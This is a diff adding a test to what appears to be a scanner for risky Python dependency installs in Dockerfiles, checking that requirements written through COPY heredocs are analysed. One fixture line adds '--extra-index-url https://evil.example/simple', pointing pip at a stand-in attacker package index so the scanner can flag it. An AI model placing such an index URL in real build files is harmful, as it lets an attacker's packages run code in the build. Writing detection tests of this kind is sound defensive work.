@@ -171,6 +171,33 @@ describe('requirements files named by the install commands of Dockerfiles, workf
     expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP012@app/deps.lst:1', 'CPP070@app/deps.lst:1']);
   });
 
+  // BuildKit's dispatchCopy writes a COPY heredoc's body as the file at its destination (`<<-` strips leading tabs,
+  // a quoted name is the same terminator): the install reads those lines, found where the Dockerfile holds them.
+  it('read a COPY heredoc body as the requirements file it writes, one finding per cause', async () => {
+    const dir = tree({
+      Dockerfile: [
+        '# syntax=docker/dockerfile:1',
+        'FROM python:3.12',
+        'COPY <<EOF /tmp/r.txt',
+        'requests>=2',
+        '--extra-index-url https://evil.example/simple',
+        'EOF',
+        'WORKDIR /w',
+        "COPY <<-'END' c.txt",
+        '\tsix',
+        '\tEND',
+        'RUN pip install -r /tmp/r.txt -r c.txt',
+        '',
+      ].join('\n'),
+    });
+    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
+      'CPP010@Dockerfile:4',
+      'CPP010@Dockerfile:9',
+      'CPP012@Dockerfile:5',
+      'CPP070@Dockerfile:5',
+    ]);
+  });
+
   it('read the named file as requirements even where another command names it by -c', async () => {
     const dir = tree({
       Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
